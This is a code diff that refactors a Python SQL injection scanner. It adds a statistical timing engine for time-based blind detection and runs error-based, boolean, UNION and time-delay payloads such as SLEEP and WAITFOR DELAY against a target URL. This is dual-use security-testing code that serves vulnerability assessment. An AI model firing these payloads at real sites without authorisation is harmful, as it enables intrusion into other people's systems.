@@ -5,6 +5,8 @@ import requests
 import sys
 import os
 import time
+import math
+import statistics
 from urllib.parse import urlparse, parse_qs, urlencode
 from datetime import datetime
 
@@ -12,14 +14,100 @@ BASE_DIR = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__fil
 sys.path.insert(0, BASE_DIR)
 
 from config import C_OK, C_WARN, C_ERR, C_RESET, C_INFO, C_TITLE, REQUEST_TIMEOUT, HEADERS
-from utils import Logger, pause, clear_screen, InputValidator, ReportWriter
+from utils import Logger, pause, clear_screen, InputValidator, ReportWriter, HTTPClient, ProbeEngine
+from vulnerability.signatures import SignatureMatcher
+
+class TimingEngine:
+    """
+    Latency model for time-based blind SQLi
+    
+    Baseline: several samples -> median / MAD noise estimate.
+    Delay is chosen from the noise level, every hit is confirmed with a
+    shorter second delay, and the result carries a confidence score.
+    """
+    
+    BASELINE_SAMPLES = 5
+    MIN_DELAY = 2
+    MAX_DELAY = 10
+    MIN_NOISE = 0.05
+    
+    def __init__(self, fetch, samples=BASELINE_SAMPLES):
+        self.fetch = fetch
+        self.samples = samples
+        self.median = 0.0
+        self.noise = self.MIN_NOISE
+        self.delay = self.MIN_DELAY
+    
+    def measure(self, url, timeout):
+        """Response time of one request (timeout counts as full timeout)"""
+        start = time.time()
+        try:
+            self.fetch(url, timeout=timeout)
+        except requests.exceptions.Timeout:
+            return timeout
+        return time.time() - start
+    
+    def sample_baseline(self, url):
+        """Model normal latency: median + scaled MAD"""
+        times = []
+        for _ in range(self.samples):
+            try:
+                times.append(self.measure(url, REQUEST_TIMEOUT))
+            except requests.exceptions.RequestException:
+                continue
+        
+        if len(times) < 2:
+            return False
+        
+        self.median = statistics.median(times)
+        mad = statistics.median(abs(t - self.median) for t in times)
+        self.noise = max(1.4826 * mad, self.MIN_NOISE)
+        # Delay must stand well above the noise, including the halved confirm delay
+        self.delay = min(max(self.MIN_DELAY, math.ceil(8 * self.noise)), self.MAX_DELAY)
+        return True
+    
+    def excess(self, elapsed):
+        """Time above the baseline median"""
+        return elapsed - self.median
+    
+    def probe(self, build_url):
+        """
+        Delay probe + adaptive confirmation
+        build_url(delay) -> test URL
+        Return: dict with elapsed times, confirmed flag and confidence
+        """
+        delay = self.delay
+        margin = max(2.0, 4 * self.noise)
+        elapsed = self.measure(build_url(delay), self.median + delay + margin)
+        result = {'elapsed': elapsed, 'confirm_elapsed': 0.0, 'confirmed': False, 'confidence': 0.0}
+        
+        if self.excess(elapsed) < 0.8 * delay:
+            return result
+        
+        # Short second probe: response time must follow the smaller delay
+        confirm_delay = max(1, delay // 2)
+        confirm_elapsed = self.measure(build_url(confirm_delay), self.median + confirm_delay + margin)
+        result['confirm_elapsed'] = confirm_elapsed
+        
+        first, second = self.excess(elapsed), self.excess(confirm_elapsed)
+        tolerance = max(0.5 * confirm_delay, 4 * self.noise)
+        
+        # Random slowness does not shrink with the injected delay
+        if 0.8 * confirm_delay <= second <= confirm_delay + tolerance and second < first:
+            fit_error = (abs(first - delay) / delay + abs(second - confirm_delay) / confirm_delay) / 2
+            result['confirmed'] = True
+            result['confidence'] = round(max(0.0, 1.0 - fit_error), 2)
+        
+        return result
+
 
 class SQLInjectionTester:
     def __init__(self):
         self.target = None
         self.vulnerabilities = []
-        self.session = requests.Session()
-        self.session.headers.update(HEADERS)
+        self.session = HTTPClient.session(HEADERS)
+        self.engine = ProbeEngine()
+        self.host = None
         
         # Error-based payloads
         self.error_payloads = [
@@ -47,11 +135,14 @@ class SQLInjectionTester:
             "' UNION ALL SELECT 'test','test','test'--",
         ]
         
-        # Time-based payloads
+        # SQL error messages (per-DBMS, error_signatures.json)
+        self.sql_errors = SignatureMatcher.load('sql_errors')
+        
+        # Time-based payloads ({delay} is chosen by TimingEngine)
         self.time_payloads = [
-            "' AND SLEEP(5)--",
-            "'; WAITFOR DELAY '00:00:05'--",
-            "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
+            "' AND SLEEP({delay})--",
+            "'; WAITFOR DELAY '00:00:{delay:02d}'--",
+            "' AND (SELECT * FROM (SELECT(SLEEP({delay})))a)--",
         ]
     
     def run(self):
@@ -73,6 +164,8 @@ class SQLInjectionTester:
         if not self.target:
             return
         
+        self.host = urlparse(self.target).netloc
+        
         Logger.info(f"Target: {self.target}")
         Logger.warning("Starting SQL Injection tests...")
         print()
@@ -89,6 +182,21 @@ class SQLInjectionTester:
         
         pause()
     
+    def build_url(self, params, param, payload):
+        """Inject payload into a single parameter"""
+        return self.target.replace(
+            f"{param}={params[param][0]}",
+            f"{param}={payload}"
+        )
+    
+    def fetch(self, url, timeout=REQUEST_TIMEOUT):
+        """GET request through the shared session"""
+        return self.session.get(url, timeout=timeout, verify=False)
+    
+    def sql_error_fingerprint(self, body):
+        """Scan response body once for SQL errors: {'label': DBMS, 'matches'} or None"""
+        return self.sql_errors.fingerprint(body)
+    
     def test_error_based(self):
         """Error-based SQL Injection test"""
         Logger.info("Testing Error-based SQL Injection...")
@@ -99,78 +207,35 @@ class SQLInjectionTester:
             
             if not params:
                 Logger.info("No URL parameters found, testing base URL with common parameters...")
-                # Try common parameter names
+                # Try common parameter names - one group, stops at the first hit
                 common_params = ['id', 'page', 'category', 'search', 'q', 'user', 'article']
-                
-                sql_errors = [
-                    'sql syntax', 'mysql', 'postgresql', 'oracle', 'sqlite',
-                    'syntax error', 'database error', 'warning: mysql',
-                    'unclosed quotation', 'quoted string not properly terminated',
-                    'ora-', 'pg_query', 'sqlite3_', 'microsoft sql server'
-                ]
-                
-                for param in common_params:
-                    for payload in self.error_payloads[:5]:
-                        test_url = f"{self.target}{'&' if '?' in self.target else '?'}{param}={payload}"
-                        
-                        try:
-                            response = self.session.get(test_url, timeout=REQUEST_TIMEOUT, verify=False)
-                            
-                            if any(error in response.text.lower() for error in sql_errors):
-                                vuln = {
-                                    'type': 'Error-based SQL Injection',
-                                    'severity': 'Critical',
-                                    'parameter': param,
-                                    'payload': payload,
-                                    'method': 'GET',
-                                    'description': f'SQL error detected with parameter: {param}'
-                                }
-                                self.vulnerabilities.append(vuln)
-                                Logger.warning(f"SQLi found! Parameter: {param}, Payload: {payload}")
-                                break
-                        except:
-                            continue
-                    
-                    if self.vulnerabilities:
-                        break
-                
-                Logger.success("Error-based test complete")
-                return
+                sep = '&' if '?' in self.target else '?'
+                jobs = [('common', self.host, (param, payload, f"{self.target}{sep}{param}={payload}"))
+                        for param in common_params
+                        for payload in self.error_payloads[:5]]
+                description = 'SQL error detected with parameter: {}'
+            else:
+                jobs = [(param, self.host, (param, payload, self.build_url(params, param, payload)))
+                        for param in params
+                        for payload in self.error_payloads]
+                description = 'SQL error detected in parameter: {}'
             
-            sql_errors = [
-                'sql syntax', 'mysql', 'postgresql', 'oracle', 'sqlite',
-                'syntax error', 'database error', 'warning: mysql',
-                'unclosed quotation', 'quoted string not properly terminated',
-                'ora-', 'pg_query', 'sqlite3_', 'microsoft sql server'
-            ]
+            def probe(item):
+                param, payload, url = item
+                return self.sql_error_fingerprint(self.fetch(url).content)
             
-            for param in params.keys():
-                Logger.info(f"Testing parameter: {param}")
-                
-                for payload in self.error_payloads:
-                    test_url = self.target.replace(
-                        f"{param}={params[param][0]}", 
-                        f"{param}={payload}"
-                    )
-                    
-                    try:
-                        response = self.session.get(test_url, timeout=REQUEST_TIMEOUT, verify=False)
-                        
-                        # Check for SQL errors
-                        if any(error in response.text.lower() for error in sql_errors):
-                            vuln = {
-                                'type': 'Error-based SQL Injection',
-                                'severity': 'Critical',
-                                'parameter': param,
-                                'payload': payload,
-                                'method': 'GET',
-                                'description': f'SQL error detected in parameter: {param}'
-                            }
-                            self.vulnerabilities.append(vuln)
-                            Logger.warning(f"SQLi found! Parameter: {param}, Payload: {payload}")
-                            break
-                    except Exception as e:
-                        continue
+            for _, (param, payload, _), found in self.engine.run(jobs, probe):
+                self.vulnerabilities.append({
+                    'type': 'Error-based SQL Injection',
+                    'severity': 'Critical',
+                    'parameter': param,
+                    'payload': payload,
+                    'method': 'GET',
+                    'dbms': found['label'],
+                    'evidence': found['matches'][:5],
+                    'description': description.format(param)
+                })
+                Logger.warning(f"SQLi found! Parameter: {param}, Payload: {payload}, DBMS: {found['label']}")
             
             Logger.success("Error-based test complete")
         except Exception as e:
@@ -187,52 +252,28 @@ class SQLInjectionTester:
             if not params:
                 return
             
-            for param in params.keys():
-                Logger.info(f"Testing parameter: {param}")
-                
-                # Get baseline response
-                try:
-                    baseline = self.session.get(self.target, timeout=REQUEST_TIMEOUT, verify=False)
-                    baseline_len = len(baseline.text)
-                except:
-                    continue
-                
-                for true_payload, false_payload in self.boolean_payloads:
-                    # Test TRUE condition
-                    true_url = self.target.replace(
-                        f"{param}={params[param][0]}", 
-                        f"{param}={true_payload}"
-                    )
-                    
-                    # Test FALSE condition
-                    false_url = self.target.replace(
-                        f"{param}={params[param][0]}", 
-                        f"{param}={false_payload}"
-                    )
-                    
-                    try:
-                        true_response = self.session.get(true_url, timeout=REQUEST_TIMEOUT, verify=False)
-                        false_response = self.session.get(false_url, timeout=REQUEST_TIMEOUT, verify=False)
-                        
-                        true_len = len(true_response.text)
-                        false_len = len(false_response.text)
-                        
-                        # If TRUE and FALSE responses differ significantly
-                        if abs(true_len - false_len) > 100:
-                            vuln = {
-                                'type': 'Boolean-based Blind SQL Injection',
-                                'severity': 'Critical',
-                                'parameter': param,
-                                'true_payload': true_payload,
-                                'false_payload': false_payload,
-                                'method': 'GET',
-                                'description': f'Boolean-based SQLi in parameter: {param}'
-                            }
-                            self.vulnerabilities.append(vuln)
-                            Logger.warning(f"Boolean SQLi found in: {param}")
-                            break
-                    except:
-                        continue
+            jobs = [(param, self.host, (param, true_payload, false_payload))
+                    for param in params
+                    for true_payload, false_payload in self.boolean_payloads]
+            
+            def probe(item):
+                param, true_payload, false_payload = item
+                true_len = len(self.fetch(self.build_url(params, param, true_payload)).text)
+                false_len = len(self.fetch(self.build_url(params, param, false_payload)).text)
+                # If TRUE and FALSE responses differ significantly
+                return abs(true_len - false_len) > 100
+            
+            for _, (param, true_payload, false_payload), _ in self.engine.run(jobs, probe):
+                self.vulnerabilities.append({
+                    'type': 'Boolean-based Blind SQL Injection',
+                    'severity': 'Critical',
+                    'parameter': param,
+                    'true_payload': true_payload,
+                    'false_payload': false_payload,
+                    'method': 'GET',
+                    'description': f'Boolean-based SQLi in parameter: {param}'
+                })
+                Logger.warning(f"Boolean SQLi found in: {param}")
             
             Logger.success("Boolean-based test complete")
         except Exception as e:
@@ -249,42 +290,34 @@ class SQLInjectionTester:
             if not params:
                 return
             
-            for param in params.keys():
-                Logger.info(f"Testing parameter: {param}")
-                
-                for payload in self.union_payloads:
-                    test_url = self.target.replace(
-                        f"{param}={params[param][0]}", 
-                        f"{param}={payload}"
-                    )
-                    
-                    try:
-                        response = self.session.get(test_url, timeout=REQUEST_TIMEOUT, verify=False)
-                        
-                        # Check for successful UNION
-                        union_indicators = ['test', 'null', 'select', '1', '2', '3']
-                        
-                        if response.status_code == 200 and any(ind in response.text.lower() for ind in union_indicators):
-                            vuln = {
-                                'type': 'Union-based SQL Injection',
-                                'severity': 'Critical',
-                                'parameter': param,
-                                'payload': payload,
-                                'method': 'GET',
-                                'description': f'UNION-based SQLi in parameter: {param}'
-                            }
-                            self.vulnerabilities.append(vuln)
-                            Logger.warning(f"UNION SQLi found in: {param}")
-                            break
-                    except:
-                        continue
+            union_indicators = ['test', 'null', 'select', '1', '2', '3']
+            jobs = [(param, self.host, (param, payload))
+                    for param in params
+                    for payload in self.union_payloads]
+            
+            def probe(item):
+                param, payload = item
+                response = self.fetch(self.build_url(params, param, payload))
+                text = response.text.lower()
+                return response.status_code == 200 and any(ind in text for ind in union_indicators)
+            
+            for _, (param, payload), _ in self.engine.run(jobs, probe):
+                self.vulnerabilities.append({
+                    'type': 'Union-based SQL Injection',
+                    'severity': 'Critical',
+                    'parameter': param,
+                    'payload': payload,
+                    'method': 'GET',
+                    'description': f'UNION-based SQLi in parameter: {param}'
+                })
+                Logger.warning(f"UNION SQLi found in: {param}")
             
             Logger.success("Union-based test complete")
         except Exception as e:
             Logger.error(f"Union-based test failed: {e}")
     
     def test_time_based(self):
-        """Time-based blind SQL Injection test"""
+        """Time-based blind SQL Injection test (statistical)"""
         Logger.info("Testing Time-based SQL Injection (may take time)...")
         
         try:
@@ -294,44 +327,39 @@ class SQLInjectionTester:
             if not params:
                 return
             
-            for param in params.keys():
-                Logger.info(f"Testing parameter: {param}")
-                
-                # Get baseline time
-                try:
-                    start = time.time()
-                    self.session.get(self.target, timeout=REQUEST_TIMEOUT, verify=False)
-                    baseline_time = time.time() - start
-                except:
-                    continue
-                
-                for payload in self.time_payloads:
-                    test_url = self.target.replace(
-                        f"{param}={params[param][0]}", 
-                        f"{param}={payload}"
-                    )
-                    
-                    try:
-                        start = time.time()
-                        self.session.get(test_url, timeout=10, verify=False)
-                        response_time = time.time() - start
-                        
-                        # If response delayed by ~5 seconds
-                        if response_time > baseline_time + 4:
-                            vuln = {
-                                'type': 'Time-based Blind SQL Injection',
-                                'severity': 'Critical',
-                                'parameter': param,
-                                'payload': payload,
-                                'delay': f"{response_time:.2f}s",
-                                'method': 'GET',
-                                'description': f'Time-based SQLi in parameter: {param}'
-                            }
-                            self.vulnerabilities.append(vuln)
-                            Logger.warning(f"Time-based SQLi found in: {param}")
-                            break
-                    except:
-                        continue
+            timing = TimingEngine(self.fetch)
+            if not timing.sample_baseline(self.target):
+                Logger.error("Time-based test skipped: baseline requests failed")
+                return
+            
+            Logger.info(f"Baseline: median {timing.median:.3f}s, noise {timing.noise:.3f}s, "
+                        f"delay {timing.delay}s")
+            
+            jobs = [(param, self.host, (param, template))
+                    for param in params
+                    for template in self.time_payloads]
+            
+            def probe(item):
+                param, template = item
+                return timing.probe(lambda delay: self.build_url(params, param, template.format(delay=delay)))
+            
+            for _, (param, template), result in self.engine.run(
+                    jobs, probe, confirm=lambda r: r['confirmed']):
+                self.vulnerabilities.append({
+                    'type': 'Time-based Blind SQL Injection',
+                    'severity': 'Critical',
+                    'parameter': param,
+                    'payload': template.format(delay=timing.delay),
+                    'delay': f"{result['elapsed']:.2f}s",
+                    'confirm_delay': f"{result['confirm_elapsed']:.2f}s",
+                    'baseline': f"{timing.median:.3f}s",
+                    'confidence': result['confidence'],
+                    'method': 'GET',
+                    'description': f'Time-based SQLi in parameter: {param} '
+                                   f'(confidence {result["confidence"]:.2f})'
+                })
+                Logger.warning(f"Time-based SQLi found in: {param} "
+                               f"(confidence {result['confidence']:.2f})")
             
             Logger.success("Time-based test complete")
         except Exception as e:
@@ -353,6 +381,8 @@ class SQLInjectionTester:
             print(f"{C_ERR}[{i}] {vuln['type']}{C_RESET}")
             print(f"  Parameter: {vuln['parameter']}")
             print(f"  Payload: {vuln.get('payload', 'N/A')}")
+            if 'dbms' in vuln:
+                print(f"  DBMS: {vuln['dbms']}")
             print(f"  Severity: {vuln['severity']}")
             print(f"  Description: {vuln['description']}")
             print()
@@ -384,6 +414,8 @@ class SQLInjectionTester:
             txt_content += f"Severity: {vuln['severity']}\n"
             txt_content += f"Parameter: {vuln['parameter']}\n"
             txt_content += f"Payload: {vuln.get('payload', 'N/A')}\n"
+            if 'dbms' in vuln:
+                txt_content += f"DBMS: {vuln['dbms']}\n"
             txt_content += f"Description: {vuln['description']}\n"
             txt_content += "\n"
         